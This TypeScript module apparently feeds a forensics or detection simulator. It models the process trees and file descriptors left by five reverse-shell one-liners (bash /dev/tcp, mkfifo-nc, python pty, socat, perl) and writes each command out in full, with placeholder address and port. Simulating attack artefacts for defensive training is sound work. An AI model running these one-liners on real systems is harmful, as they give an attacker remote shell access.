/**
 * Reverse-shell flavours as data: the process chain each one-liner leaves
 * behind and the fds of each process. `{addr}` and `{port}` are filled in
 * at compile time. bash-dev-tcp is the captured one (test/golden/captures:
 * ps-auxf-sshd.txt, proc-fd.txt): the `bash -i` has fds 0, 1 and 2 on one
 * TCP socket and 255 on /dev/tty. The others follow what the one-liners do
 * on a real host; their pty handling (python-pty, socat allocate a new pty)
 * is simplified to the parent's tty.
 */
import type { ChainProcess, FdSpec } from './types';

export interface Flavour {
  name: string;
  /** What the attacker typed, for history and the sudo/auth traces. */
  command: string;
  chain: ChainProcess[];
  shellIndex: number;
  pipes: number;
}

const ttyIo: FdSpec[] = [{ fd: 0, tty: true }, { fd: 1, tty: true }, { fd: 2, tty: true }];
const sockIo: FdSpec[] = [{ fd: 0, sock: true }, { fd: 1, sock: true }, { fd: 2, sock: true }];
const bash = { comm: 'bash', exe: '/usr/bin/bash', vsz: 7236, rss: 3456 };

const devTcp = 'bash -i >& /dev/tcp/{addr}/{port} 0>&1';

const FLAVOURS: Record<string, Flavour> = {
  'bash-dev-tcp': {
    name: 'bash-dev-tcp',
    command: `bash -c '${devTcp}' & sleep 3600`,
    shellIndex: 2,
    pipes: 0,
    chain: [
      { ...bash, parent: -1, argv: ['bash', '-c', `bash -c '${devTcp}' & sleep 3600`], stat: 'S',
        fds: ttyIo, endsWith: [3] },
      { ...bash, parent: 0, argv: ['bash', '-c', devTcp], stat: 'S', fds: ttyIo, endsWith: [2] },
      { ...bash, parent: 1, argv: ['bash', '-i'], stat: 'S+', vsz: 7504, rss: 4224, pgrp: 2,
        fds: [...sockIo, { fd: 255, path: '/dev/tty', mode: 'u' }], ignores: [2, 15] },
      { parent: 0, comm: 'sleep', exe: '/usr/bin/sleep', argv: ['sleep', '3600'], stat: 'S',
        vsz: 5684, rss: 1920, fds: ttyIo, lifetime: 3_600_000 },
    ],
  },
  'sh-mkfifo-nc': {
    name: 'sh-mkfifo-nc',
    command: 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {addr} {port} > /tmp/f',
    shellIndex: 2,
    pipes: 2,
    chain: [
      { comm: 'cat', exe: '/usr/bin/cat', parent: -1, argv: ['cat', '/tmp/f'], stat: 'S', vsz: 5548,
        rss: 1792, fds: [{ fd: 0, tty: true }, { fd: 1, pipe: 0, mode: 'w' }, { fd: 2, tty: true },
          { fd: 3, path: '/tmp/f', mode: 'r' }] },
      { comm: 'nc', exe: '/usr/bin/nc.openbsd', parent: -1, argv: ['nc', '{addr}', '{port}'], stat: 'S',
        vsz: 3528, rss: 1928, fds: [{ fd: 0, pipe: 1, mode: 'r' }, { fd: 1, path: '/tmp/f', mode: 'w' },
          { fd: 2, tty: true }, { fd: 3, sock: true }] },
      { comm: 'sh', exe: '/usr/bin/dash', parent: -1, argv: ['/bin/sh', '-i'], stat: 'S+', vsz: 2800,
        rss: 1664, pgrp: 2, fds: [{ fd: 0, pipe: 0, mode: 'r' }, { fd: 1, pipe: 1, mode: 'w' },
          { fd: 2, pipe: 1, mode: 'w' }, { fd: 10, tty: true }], endsWith: [1] },
    ],
  },
  'python-pty': {
    name: 'python-pty',
    command: 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{addr}",{port}));' +
      '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'',
    shellIndex: 1,
    pipes: 0,
    chain: [
      { comm: 'python3', exe: '/usr/bin/python3.12', parent: -1, argv: ['python3', '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("{addr}",{port}));' +
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'], stat: 'S', vsz: 16540,
      rss: 9856, fds: [...sockIo, { fd: 3, sock: true }, { fd: 4, path: '/dev/ptmx', mode: 'u' }],
      endsWith: [1] },
      { ...bash, parent: 0, argv: ['/bin/bash'], stat: 'Ss+', fds: [...ttyIo, { fd: 255, tty: true }],
        ignores: [2, 15] },
    ],
  },
  socat: {
    name: 'socat',
    command: 'socat TCP:{addr}:{port} EXEC:\'bash -li\',pty,stderr,setsid,sigint,sane',
    shellIndex: 1,
    pipes: 0,
    chain: [
      { comm: 'socat', exe: '/usr/bin/socat', parent: -1, argv: ['socat', 'TCP:{addr}:{port}',
        'EXEC:bash -li,pty,stderr,setsid,sigint,sane'], stat: 'S', vsz: 9340, rss: 3712,
      fds: [...ttyIo, { fd: 5, sock: true }, { fd: 6, path: '/dev/ptmx', mode: 'u' }], endsWith: [1] },
      { ...bash, parent: 0, argv: ['bash', '-li'], stat: 'Ss+', fds: [...ttyIo, { fd: 255, tty: true }],
        ignores: [2, 15] },
    ],
  },
  perl: {
    name: 'perl',
    command: 'perl -e \'use Socket;$i="{addr}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));' +
      'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");' +
      'open(STDERR,">&S");exec("/bin/sh -i");};\'',
    shellIndex: 0,
    pipes: 0,
    chain: [
      { comm: 'sh', exe: '/usr/bin/dash', parent: -1, argv: ['/bin/sh', '-i'], stat: 'S+', vsz: 2800,
        rss: 1536, fds: [...sockIo, { fd: 3, sock: true }] },
    ],
  },
};

export function flavour(name: string): Flavour | undefined {
  return Object.hasOwn(FLAVOURS, name) ? FLAVOURS[name] : undefined;
}

/** Fills {addr} and {port} into a template. */
export function fill(text: string, addr: string, port: number): string {
  return text.replaceAll('{addr}', addr).replaceAll('{port}', String(port));
}
